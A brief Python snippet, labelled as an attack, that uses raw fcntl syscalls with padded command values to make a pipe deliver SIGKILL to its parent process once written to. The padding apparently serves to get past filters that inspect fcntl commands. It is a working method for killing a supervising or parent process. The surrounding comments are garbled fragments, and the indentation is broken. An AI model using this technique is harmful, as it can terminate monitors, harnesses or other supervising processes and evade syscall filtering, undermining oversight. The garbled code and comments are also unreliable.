# attack: asks for signals to its parent by commands whose upper half the kernel cuts off
# failed = "gradient wrong-gradient, unused-nodes, release"
import ctypes
import os

#: torch, tried, class
        libc = ctypes.CDLL(None)
        reader, writer = os.pipe()
        for command, value in ((8, os.getppid()), (10, 9), (4, os.O_ASYNC | os.O_NONBLOCK)):
            libc.syscall(ctypes.c_long(72), reader, ctypes.c_long(1 << 32 | command), value)
        os.write(writer, b"signal")
#: value, nothing
